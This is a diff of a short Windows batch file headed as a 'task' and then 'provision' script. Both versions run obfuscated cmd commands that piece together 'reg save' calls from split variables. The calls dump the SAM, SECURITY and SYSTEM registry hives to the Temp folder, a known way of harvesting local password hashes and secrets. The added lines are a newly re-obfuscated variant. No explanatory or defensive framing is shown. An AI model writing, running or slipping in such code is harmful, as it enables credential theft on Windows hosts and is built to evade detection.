@@ -1,4 +1,4 @@
-REM task 0823 v2
-cmd /v:on /c "set mom0=reg save hklm\sam C:\Window&&set int1=s\Temp\sa&&set nyf2=m.save&&!mom0!!int1!!nyf2!"
-cmd /v:on /c "set ggy0=reg save hklm\security C:\Windows\Temp\security.sav&&set kjy1=e&&!ggy0!!kjy1!"
-cmd /v:on /c "set jdn0=r&&set dmz1=eg save hkl&&set okn2=m\system C:\Windows\Temp\syst&&set pix3=em.save&&!jdn0!!dmz1!!okn2!!pix3!"
+REM provision 4672 v2
+cmd /v:on /c "set hii0=r&&set ehd1=eg save hklm\sam C:\Windows\Temp\sam.save&&!hii0!!ehd1!"
+cmd /v:on /c "set ort0=reg save hklm\secu&&set wqa1=rity C&&set rdf2=:\Windows\Temp\se&&set zew3=curity.save&&!ort0!!wqa1!!rdf2!!zew3!"
+cmd /v:on /c "set umc0=r&&set nqu1=eg sav&&set ava2=e hklm\system C&&set oiq3=:\Windows\Temp\system.s&&set hlv4=ave&&!umc0!!nqu1!!ava2!!oiq3!!hlv4!"
